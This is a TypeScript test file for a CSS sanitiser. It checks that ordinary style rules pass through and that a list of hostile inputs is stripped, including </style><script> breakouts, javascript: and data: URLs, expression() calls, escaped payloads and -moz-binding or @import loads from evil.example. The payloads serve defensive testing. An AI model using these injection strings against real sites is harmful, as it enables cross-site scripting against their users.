import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sanitiseCss } from '../../../src/features/design/css-sanitiser.js';

/** Whatever goes in, what comes out must be safe inside a <style> element of a page or an email. */
function assertInert(css: string) {
  assert.doesNotMatch(css, /</, 'no < (no </style> breakout)');
  assert.doesNotMatch(css, /\\/, 'no escapes');
  assert.doesNotMatch(css, /@import|expression|javascript|vbscript|behaviou?r|-moz-binding|data:|progid/i);
}

describe('custom CSS sanitiser', () => {
  it('keeps ordinary rules, @media blocks and https images, normalised', () => {
    const { css, removed } = sanitiseCss(`
      /* the writer's note */
      .content h2 { color: #b00020; letter-spacing: .02em }
      a:hover, a:focus-visible { text-decoration: none !important; }
      @media (max-width: 600px) { .card { padding: 8px } }
      .hero { background: url("https://cdn.example.com/bg.png") no-repeat; }
      blockquote::before { content: "“ } {"; }
      input[type="email"] > span ~ b + i { font-family: 'Trebuchet MS', sans-serif; }`);
    assert.deepEqual(removed, []);
    assert.equal(
      css,
      [
        '.content h2 { color: #b00020; letter-spacing: .02em; }',
        'a:hover, a:focus-visible { text-decoration: none !important; }',
        '@media (max-width: 600px) {',
        '  .card { padding: 8px; }',
        '}',
        '.hero { background: url("https://cdn.example.com/bg.png") no-repeat; }',
        'blockquote::before { content: "“ } {"; }',
        `input[type="email"] > span ~ b + i { font-family: 'Trebuchet MS', sans-serif; }`,
      ].join('\n'),
    );
  });

  const hostile: Array<[string, string, RegExp]> = [
    ['@import', '@import url("https://evil.example/x.css"); a { color: red }', /@import/],
    ['@import without url', "@import 'evil.css';", /@import/],
    ['@font-face', '@font-face { font-family: x; src: url(https://evil.example/f.woff) }', /@font-face/],
    ['@charset and @namespace', '@charset "utf-8"; @namespace svg url(http://www.w3.org/2000/svg);', /@charset/],
    ['javascript: url', 'a { background: url(javascript:alert(1)) }', /run code/],
    ['quoted javascript: url', "a { background-image: url('javascript:alert(1)') }", /only https|run code/],
    ['data: url', 'a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }', /only https/],
    ['data: text/html', 'a { background: url("data:text/html,<script>alert(1)</script>") }', /not allowed|only https/],
    ['http url', 'a { background: url(http://tracker.example/p.gif) }', /only https/],
    ['relative url', 'a { background: url(/admin/logout) }', /only https/],
    ['expression()', 'a { width: expression(alert(1)) }', /run code/],
    ['expression with spaces and case', 'a { width: ExPrEsSiOn (alert(1)) }', /run code/],
    ['escaped expression', 'a { width: \\65 xpression(alert(1)) }', /escapes/],
    ['escaped javascript in url', 'a { background: url(\\6a avascript:alert(1)) }', /escapes/],
    ['behavior', 'a { behavior: url(https://evil.example/x.htc) }', /runs code/],
    ['-moz-binding', 'a { -moz-binding: url(https://evil.example/x.xml#x) }', /runs code/],
    ['binding in a value', 'a { color: red; -moz-binding:url(https://e.example/x) }', /runs code/],
    ['IE filter', "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://e.example/x') }", /run code/],
    ['image-set', 'a { background: image-set("https://e.example/a.png" 1x) }', /run code/],
    ['</style> in a value', 'a { content: "</style><script>alert(1)</script>" }', /not allowed/],
    ['</style> between rules', 'a { color: red } </style><script>alert(1)</script>', /not a rule/],
    ['</style> in a selector', '</style><img src=x onerror=alert(1)> a { color: red }', /rule for/],
    ['HTML comment opener', '<!-- a { color: red } -->', /rule for|not a rule/],
    ['nested @media', '@media screen { @media print { a { color: red } } }', /@media print/],
    ['@supports', '@supports (display: grid) { a { color: red } }', /@supports/],
    ['unclosed comment', 'a { color: red } /* b { color: blue }', /unclosed comment/],
    ['stray brace', '} a { color: red }', /stray/],
    ['unclosed string', 'a { content: "abc; color: red }', /not a declaration|unclosed/],
    ['not a declaration', 'a { color }', /not a declaration/],
    ['nesting', 'a { color: red; & b { color: blue } }', /rule for/],
    ['NUL bytes', 'a { col\u0000or: red; background: url(java\u0000script:alert(1)) }', /run code|only https/],
  ];

  for (const [name, input, why] of hostile) {
    it(`refuses ${name}`, () => {
      const { css, removed } = sanitiseCss(input);
      assertInert(css);
      assert.ok(removed.length > 0, `${name}: something is reported as removed`);
      assert.match(removed.join(' | '), why);
    });
  }

  it('keeps the good rules around a bad one', () => {
    const { css, removed } = sanitiseCss('a { color: red; background: url(javascript:x); font-weight: bold } @import "x.css"; p { margin: 0 }');
    assert.equal(css, 'a { color: red; font-weight: bold; }\np { margin: 0; }');
    assert.equal(removed.length, 2);
  });

  it('never lets a < or a backslash through, whatever the input', () => {
    const pieces = ['a', '{', '}', ';', ':', '"', "'", '(', ')', '<', '/', '\\', '@media x', 'url(', 'https://a.b/c', ' ', '*', '/*', '*/', 'color: red', '</style>'];
    let seed = 7;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let round = 0; round < 2000; round++) {
      let input = '';
      for (let i = 0; i < 30; i++) input += pieces[next() % pieces.length];
      const { css } = sanitiseCss(input);
      assert.doesNotMatch(css, /[<\\]/, `input: ${input}`);
    }
  });
});
